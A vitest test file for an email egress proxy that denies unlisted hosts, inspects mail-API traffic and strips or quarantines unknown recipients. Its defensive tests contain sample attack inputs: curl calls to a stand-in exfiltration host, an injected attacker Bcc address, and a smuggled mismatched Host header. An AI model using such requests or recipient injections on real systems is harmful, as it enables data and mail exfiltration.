// The proxy's routing and its edges: deny by default, allowlisted tunnels, plain-HTTP requests,
// verified upstream TLS, agents by proxy credentials, transparent SNI mode, quarantine and release.

import { createServer as createHttpServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hashPassword } from '../../src/policy/password.js';
import { curl, postJson, rawTunnel } from '../helpers/http-client.js';
import { startHttpsSink, type HttpsSink } from '../helpers/https-sink.js';
import { ADMIN_TOKEN, adminGet, alerts, companyPolicy, startTestRelay, type TestRelay } from '../helpers/relay.js';

const PM = 'api.postmarkapp.com';
const mail = (extra: Record<string, unknown> = {}) => JSON.stringify({ From: 'agent@company.com', To: 'alice@company.com', Subject: 's', TextBody: 't', ...extra });

describe('routing: inspect, tunnel or refuse', () => {
  let sink: HttpsSink;
  let plain: Server;
  let r: TestRelay;
  beforeAll(async () => {
    sink = await startHttpsSink([PM, 'allowed.example.org']);
    sink.respond = () => ({ body: { ErrorCode: 0, Message: 'OK', MessageID: 'm' } });
    plain = createHttpServer((req, res) => res.end(`plain ${req.method} ${req.url} host=${req.headers.host}`));
    await new Promise<void>((res) => plain.listen(0, '127.0.0.1', res));
    const plainPort = (plain.address() as AddressInfo).port;
    r = await startTestRelay({
      policy: companyPolicy({ extra: 'http:\n  allow: [allowed.example.org, "*.plain.example.org", api.postmarkapp.com]\n' }),
      env: { POSTGUARD_RESOLVE: `${sink.resolve([PM, 'allowed.example.org'])},www.plain.example.org:80=127.0.0.1:${plainPort}`, POSTGUARD_UPSTREAM_CA: sink.caFile },
    });
  });
  afterAll(async () => {
    await r?.close();
    await sink?.close();
    plain?.close();
  });

  it('refuses CONNECT to a host that is neither a mail API nor allowlisted, with the reason, and audits and alerts it', async () => {
    const res = await curl(r, 'https://exfil.example.net/upload', ['-v']);
    expect(res.code).not.toBe(0);
    expect(res.stderr).toMatch(/CONNECT tunnel failed, response 403|403/);
    const ev = (await adminGet(r, '/api/events?kind=http&action=denied&limit=1')).body.events[0];
    expect(ev).toMatchObject({ method: 'CONNECT', host: 'exfil.example.net', port: 443, rule: 'http.allow', reason: 'host not on the HTTP egress allowlist' });
    expect((await alerts(r, 'egress_denied')).some((a) => a.event_id === ev.id)).toBe(true);
  });

  it('tunnels an allowlisted host untouched (its own certificate, not ours)', async () => {
    const res = await curl(r, 'https://allowed.example.org/x', ['--cacert', sink.caFile]);
    expect(res.status).toBe(200);
    expect(sink.requests.at(-1)!.url).toBe('/x');
    const ev = (await adminGet(r, '/api/events?kind=http&action=tunnelled&limit=1')).body.events[0];
    expect(ev).toMatchObject({ host: 'allowed.example.org', port: 443 });
  });

  it('does not tunnel an allowlisted host to a non-TLS port (no SMTP through a CONNECT)', async () => {
    const res = await curl(r, 'https://allowed.example.org:25/', ['-v']);
    expect(res.code).not.toBe(0);
    expect(res.stderr).toMatch(/403/);
  });

  it('forwards plain-HTTP absolute-form requests to allowlisted hosts, refuses others', async () => {
    const ok = await curl(r, 'http://www.plain.example.org/p?q=1');
    expect(ok.status).toBe(200);
    expect(ok.body).toBe('plain GET /p?q=1 host=www.plain.example.org');
    const no = await curl(r, 'http://exfil.example.net/');
    expect(no.status).toBe(403);
    expect(no.body).toMatch(/nor on the policy's HTTP allowlist/);
  });

  it('never passes a mail-API host uninspected, even on another port and covered by an allowlist pattern', async () => {
    sink.requests.length = 0;
    const res = await curl(r, `http://${PM}:8080/email`, ['-X', 'POST', '-H', 'content-type: application/json', '--data-binary', '@-'], mail({ Bcc: 'phan@giftshop.club' }));
    expect(res.status).toBe(403);
    expect(res.body).toMatch(/egress is denied by default/);
    expect(sink.requests).toHaveLength(0);
  });

  it('inspects a plain-HTTP request to a mail API and sends it on over verified TLS', async () => {
    sink.requests.length = 0;
    const res = await curl(r, `http://${PM}/email`, ['-X', 'POST', '-H', 'content-type: application/json', '--data-binary', '@-'], mail({ Bcc: 'phan@giftshop.club' }));
    expect(res.status).toBe(200);
    expect(sink.requests).toHaveLength(1);
    expect(sink.requests[0]!.body.toString()).not.toContain('giftshop');
  });

  it('refuses a request whose Host header names another host than the tunnel', async () => {
    sink.requests.length = 0;
    const out = await rawTunnel(r, PM, `POST /email HTTP/1.1\r\nHost: api.sendgrid.com\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}`);
    expect(out).toMatch(/^HTTP\/1\.1 400/);
    expect(out).toContain('Host header does not match');
    expect(sink.requests).toHaveLength(0);
  });

  it('offers clients HTTP/1.1 only (ALPN), and keeps upstream connections alive across clients', async () => {
    sink.requests.length = 0;
    const a = await curl(r, `https://${PM}/email`, ['-v', '--http2', '-X', 'POST', '-H', 'content-type: application/json', '--data-binary', '@-'], mail());
    expect(a.status).toBe(200);
    expect(a.stderr).toMatch(/ALPN: server accepted http\/1\.1|ALPN, server accepted to use http\/1\.1/);
    const b = await postJson(r, `https://${PM}/email`, mail());
    expect(b.status).toBe(200);
    expect(sink.requests).toHaveLength(2);
    expect(sink.requests[1]!.remotePort).toBe(sink.requests[0]!.remotePort);
  });

  it('answers a non-proxy request with a clear 400', async () => {
    const res = await fetch(`http://127.0.0.1:${r.proxyPort}/`);
    expect(res.status).toBe(400);
    expect(await res.text()).toMatch(/this is an HTTP proxy/);
  });
});

describe('upstream TLS is always verified', () => {
  it('refuses an upstream whose certificate the relay does not trust: 502, nothing delivered', async () => {
    const sink = await startHttpsSink([PM]);
    const r = await startTestRelay({ policy: companyPolicy(), env: { POSTGUARD_RESOLVE: sink.resolve([PM]) } }); // no POSTGUARD_UPSTREAM_CA
    try {
      const res = await postJson(r, `https://${PM}/email`, mail());
      expect(res.status).toBe(502);
      expect(JSON.parse(res.body).Message).toMatch(/postguard: upstream TLS verification of api\.postmarkapp\.com failed/);
      expect(sink.requests).toHaveLength(0);
      const ev = (await adminGet(r, '/api/events?kind=message&limit=1')).body.events[0];
      expect(ev).toMatchObject({ action: 'failed', status: 502 });
    } finally {
      await r.close();
      await sink.close();
    }
  });

  it('refuses an upstream certificate issued for another name', async () => {
    const sink = await startHttpsSink(['other.example.com']);
    const r = await startTestRelay({ policy: companyPolicy(), env: { POSTGUARD_RESOLVE: sink.resolve([PM]), POSTGUARD_UPSTREAM_CA: sink.caFile } });
    try {
      const res = await postJson(r, `https://${PM}/email`, mail());
      expect(res.status).toBe(502);
      expect(res.body).toMatch(/TLS verification|ALTNAME|altnames/i);
      expect(sink.requests).toHaveLength(0);
    } finally {
      await r.close();
      await sink.close();
    }
  });

  it('a client that does not trust the relay CA gets no connection (no silent downgrade)', async () => {
    const sink = await startHttpsSink([PM]);
    const r = await startTestRelay({ policy: companyPolicy(), env: { POSTGUARD_RESOLVE: sink.resolve([PM]), POSTGUARD_UPSTREAM_CA: sink.caFile } });
    try {
      const res = await curl(r, `https://${PM}/email`, ['--cacert', sink.caFile, '-X', 'POST', '-d', '{}']);
      expect(res.code).not.toBe(0);
      expect(res.stderr).toMatch(/certificate|SSL/i);
      expect(sink.requests).toHaveLength(0);
    } finally {
      await r.close();
      await sink.close();
    }
  });
});

describe('agents by proxy credentials', () => {
  let sink: HttpsSink;
  let r: TestRelay;
  beforeAll(async () => {
    sink = await startHttpsSink([PM]);
    const hash = hashPassword('s3cret');
    r = await startTestRelay({
      policy: `version: 1\nrecipients: [company.com]\nunknown_recipients: strip\nagents:\n  mailer:\n    password_hash: "${hash}"\n    recipients: [partner.example]\n`,
      env: { POSTGUARD_RESOLVE: sink.resolve([PM]), POSTGUARD_UPSTREAM_CA: sink.caFile },
    });
  });
  afterAll(async () => {
    await r?.close();
    await sink?.close();
  });

  it('asks for credentials (407) when the policy defines agents', async () => {
    const res = await postJson(r, `https://${PM}/email`, mail(), []);
    expect(res.code).not.toBe(0);
    expect(res.stderr).toMatch(/407/);
    const wrong = await curl(r, `https://${PM}/email`, ['--proxy-user', 'mailer:nope', '-X', 'POST', '-d', '{}']);
    expect(wrong.stderr).toMatch(/407/);
    expect(sink.requests).toHaveLength(0);
  });

  it('applies the agent\'s own rules and audits the agent', async () => {
    const res = await curl(r, `https://${PM}/email`, ['--proxy-user', 'mailer:s3cret', '-X', 'POST', '-H', 'content-type: application/json', '--data-binary', '@-'], mail({ To: 'bob@partner.example', Cc: 'alice@company.com', Bcc: 'phan@giftshop.club', From: 'agent@company.com' }));
    expect(res.status).toBe(200);
    expect(sink.requests.at(-1)!.json).toMatchObject({ To: 'bob@partner.example', Cc: 'alice@company.com', Bcc: '' });
    const ev = (await adminGet(r, '/api/events?kind=message&limit=1')).body.events[0];
    expect(ev).toMatchObject({ agent: 'mailer', action: 'stripped' });
  });
});

describe('transparent mode (SNI)', () => {
  let sink: HttpsSink;
  let r: TestRelay;
  beforeAll(async () => {
    sink = await startHttpsSink([PM, 'allowed.example.org']);
    r = await startTestRelay({
      policy: companyPolicy({ extra: 'http:\n  allow: [allowed.example.org]\n' }),
      env: { POSTGUARD_TRANSPARENT_LISTEN: '127.0.0.1:0', POSTGUARD_RESOLVE: sink.resolve([PM, 'allowed.example.org']), POSTGUARD_UPSTREAM_CA: sink.caFile },
    });
  });
  afterAll(async () => {
    await r?.close();
    await sink?.close();
  });
  const direct = (host: string, args: string[], input?: string) =>
    curl({ ...r, proxyPort: 0 } as TestRelay, `https://${host}/email`, ['--noproxy', '*', '--connect-to', `${host}:443:127.0.0.1:${r.transparentPort}`, ...args], input);

  it('inspects a mail-API host reached by name (no proxy settings), stripping the attacker', async () => {
    sink.requests.length = 0;
    const res = await direct(PM, ['-X', 'POST', '-H', 'content-type: application/json', '--data-binary', '@-'], mail({ Bcc: 'phan@giftshop.club' }));
    expect(res.status, res.stderr).toBe(200);
    expect(sink.requests).toHaveLength(1);
    expect(sink.requests[0]!.body.toString()).not.toContain('giftshop');
    const ev = (await adminGet(r, '/api/events?kind=message&limit=1')).body.events[0];
    expect(ev).toMatchObject({ via: 'transparent', action: 'stripped' });
  });

  it('tunnels an allowlisted SNI untouched and drops any other name', async () => {
    const ok = await direct('allowed.example.org', ['--cacert', sink.caFile]);
    expect(ok.status).toBe(200);
    const no = await direct('exfil.example.net', []);
    expect(no.code).not.toBe(0);
    const ev = (await adminGet(r, '/api/events?kind=http&action=denied&limit=1')).body.events[0];
    expect(ev).toMatchObject({ host: 'exfil.example.net', via: 'transparent', method: 'TLS' });
  });
});

describe('quarantine of an HTTP request, and release', () => {
  it('holds the request (202), and on release sends it with the unknown recipient removed', async () => {
    const sink = await startHttpsSink([PM]);
    const r = await startTestRelay({ policy: companyPolicy({ unknown: 'quarantine' }), env: { POSTGUARD_RESOLVE: sink.resolve([PM]), POSTGUARD_UPSTREAM_CA: sink.caFile } });
    try {
      const res = await postJson(r, `https://${PM}/email`, mail({ Bcc: 'phan@giftshop.club' }), ['X-Postmark-Server-Token: tok']);
      expect(res.status).toBe(202);
      const held = JSON.parse(res.body).postguard;
      expect(held).toMatchObject({ status: 'quarantined' });
      expect(sink.requests).toHaveLength(0);
      const list = (await adminGet(r, '/api/quarantine')).body.messages;
      expect(list[0]).toMatchObject({ id: held.id, channel: 'http', envelope: { from: 'agent@company.com', to: ['alice@company.com', 'phan@giftshop.club'] } });
      const rel = await fetch(`http://127.0.0.1:${r.adminPort}/api/quarantine/${held.id}/release`, { method: 'POST', headers: { authorization: `Bearer ${ADMIN_TOKEN}` } });
      const body = await rel.json();
      expect(rel.status, JSON.stringify(body)).toBe(200);
      expect(body).toMatchObject({ status: 'delivered', delivered_to: ['alice@company.com'], dropped: ['phan@giftshop.club'] });
      expect(sink.requests).toHaveLength(1);
      expect(sink.requests[0]!.headers['x-postmark-server-token']).toBe('tok');
      expect(sink.requests[0]!.body.toString()).not.toContain('giftshop');
      expect((await adminGet(r, '/api/quarantine')).body.messages).toHaveLength(0);
    } finally {
      await r.close();
      await sink.close();
    }
  });
});

describe('held HTTP requests are shown without their credentials', () => {
  it('masks the provider token in GET /api/quarantine/{id}, keeps it for the replay', async () => {
    const sink = await startHttpsSink([PM]);
    const r = await startTestRelay({ policy: companyPolicy({ unknown: 'quarantine' }), env: { POSTGUARD_RESOLVE: sink.resolve([PM]), POSTGUARD_UPSTREAM_CA: sink.caFile } });
    try {
      const res = await postJson(r, `https://${PM}/email`, mail({ Bcc: 'phan@giftshop.club' }), ['X-Postmark-Server-Token: very-secret-token']);
      const id = JSON.parse(res.body).postguard.id;
      const shown = await adminGet(r, `/api/quarantine/${id}`);
      const text = Buffer.from(shown.body.raw_base64, 'base64').toString('utf8');
      expect(text).not.toContain('very-secret-token');
      expect(JSON.parse(text)).toMatchObject({ method: 'POST', url: '/email', headers: { 'x-postmark-server-token': '(masked)' } });
      expect(JSON.parse(JSON.parse(text).body)).toMatchObject({ Bcc: 'phan@giftshop.club' });
    } finally {
      await r.close();
      await sink.close();
    }
  });
});

describe('monitor mode on the HTTP channel', () => {
  it('changes nothing, and audits and alerts what enforce mode would have done', async () => {
    const sink = await startHttpsSink([PM]);
    const r = await startTestRelay({ policy: companyPolicy({ mode: 'monitor', unknown: 'block' }), env: { POSTGUARD_RESOLVE: sink.resolve([PM]), POSTGUARD_UPSTREAM_CA: sink.caFile } });
    try {
      const res = await postJson(r, `https://${PM}/email`, mail({ Bcc: 'phan@giftshop.club' }));
      expect(res.status).toBe(200);
      expect(sink.requests).toHaveLength(1);
      expect(sink.requests[0]!.json.Bcc).toBe('phan@giftshop.club');
      const ev = (await adminGet(r, '/api/events?kind=message&limit=1')).body.events[0];
      expect(ev).toMatchObject({ action: 'forwarded', decision: 'deliver', would_action: 'block', mode: 'monitor' });
      expect((await alerts(r, 'would_block')).some((a) => a.event_id === ev.id)).toBe(true);
    } finally {
      await r.close();
      await sink.close();
    }
  });
});
